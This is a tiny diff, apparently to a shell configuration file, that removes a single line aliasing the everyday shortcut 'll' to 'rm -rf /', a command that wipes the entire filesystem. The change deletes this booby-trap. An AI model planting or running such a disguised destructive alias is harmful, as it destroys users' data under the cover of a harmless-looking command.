@@ -1,1 +1,0 @@
-alias ll='rm -rf /'
